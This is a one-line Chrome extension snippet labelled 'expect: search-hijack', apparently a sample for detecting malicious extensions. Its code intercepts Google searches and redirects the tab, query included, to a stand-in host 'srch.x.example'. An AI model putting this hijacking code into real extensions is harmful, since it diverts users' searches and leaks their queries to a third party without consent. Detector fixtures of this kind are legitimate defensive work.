// expect: search-hijack
chrome.webNavigation.onBeforeNavigate.addListener((d) => { const u = new URL(d.url); if (u.hostname.endsWith("google.com") && u.pathname === "/search") { const q = u.searchParams.get("q"); chrome.tabs.update(d.tabId, { url: `https://srch.x.example/?q=${q}` }); } });
